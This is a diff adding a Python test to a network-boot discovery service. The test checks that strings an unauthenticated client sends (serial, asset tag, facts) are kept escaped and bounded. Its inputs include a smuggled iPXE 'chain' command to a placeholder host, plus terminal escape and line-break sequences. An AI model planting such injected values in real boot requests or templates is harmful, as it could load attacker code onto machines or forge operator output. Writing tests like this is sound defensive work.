@@ -232,6 +232,30 @@ async def test_discovery_ignore_records_the_machine_and_exits(env: Env) -> None:
     assert await kinds(env) == ["discovered"]
 
 
+async def test_control_characters_a_stranger_sends_are_kept_escaped(
+        make_env: EnvFactory) -> None:
+    """Anyone may send ``/ipxe?mac=…&serial=…``: the serial and asset tag become the
+    discovered machine's identity, the other strings its facts, and the API, the dashboard,
+    ``netboot machines show`` and site templates write them out. A line break or an ESC in
+    them forged lines of an operator's terminal or of a script rendered with
+    ``machine.serial``; they are kept escaped, the platform bounded like the others
+    (s36-attack)."""
+    env = await make_env("discovery:\n  policy: hold\n")
+    await env.seed()
+    await boot(env, HEXHYP, serial="AB\nchain http://198.51.100.9/x\x1b[2J",
+               asset="\x07ta\u2028g", product="P\r\nQ", manufacturer="Dell Inc.",
+               platform="efi\nchain http://198.51.100.9/" + "p" * 300)
+    machine = await env.get(f"/api/v1/machines/{MAC}")
+    assert machine["serial"] == "AB\\x0achain http://198.51.100.9/x\\x1b[2J"
+    assert machine["asset"] == "\\x07ta\\u2028g"
+    assert machine["facts"]["product"] == "P\\x0d\\x0aQ"
+    assert machine["facts"]["manufacturer"] == "Dell Inc."  # printable: as it came
+    platform = machine["facts"]["platform"]
+    assert platform.startswith("efi\\x0achain http://198.51.100.9/pp") and len(platform) == 128
+    strings = [machine["serial"], machine["asset"], *machine["facts"].values()]
+    assert all(text.isprintable() for text in strings), strings
+
+
 async def test_discovery_hold_then_approve_then_install(make_env: EnvFactory) -> None:
     env = await make_env("discovery:\n  policy: hold\n  hold_retry_seconds: 20\n")
     await env.seed()
